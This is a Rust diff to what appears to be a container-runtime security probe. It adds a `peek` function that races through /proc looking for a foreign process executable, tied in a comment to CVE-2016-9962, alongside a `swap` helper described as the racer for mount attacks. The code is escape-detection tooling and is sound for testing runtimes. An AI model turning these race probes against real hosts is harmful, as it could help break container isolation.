@@ -41,6 +41,26 @@ pub fn write_exe(args: &[&str]) -> ExitCode {
     ExitCode::FAILURE
 }
 
+/// Looks into every process it sees until one shows a program that is not the container's own, and prints that
+/// (CVE-2016-9962): whoever sees the program of the runtime can open its descriptors, too.
+pub fn peek() -> ExitCode {
+    let until = Instant::now() + RACE;
+    while Instant::now() < until {
+        for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
+            let name = entry.file_name().to_string_lossy().into_owned();
+            if !name.bytes().all(|byte| byte.is_ascii_digit()) {
+                continue;
+            }
+            let Ok(program) = std::fs::read_link(entry.path().join("exe")) else { continue };
+            if !program.ends_with("probe") && !program.ends_with("busybox") {
+                println!("{name} {}", program.display());
+                return ExitCode::SUCCESS;
+            }
+        }
+    }
+    ExitCode::FAILURE
+}
+
 /// Exchanges the paths A and B (`renameat2` with `RENAME_EXCHANGE`) as fast as it can: the racer of the mount attacks.
 pub fn swap(args: &[&str]) -> ExitCode {
     let [a, b] = args else {
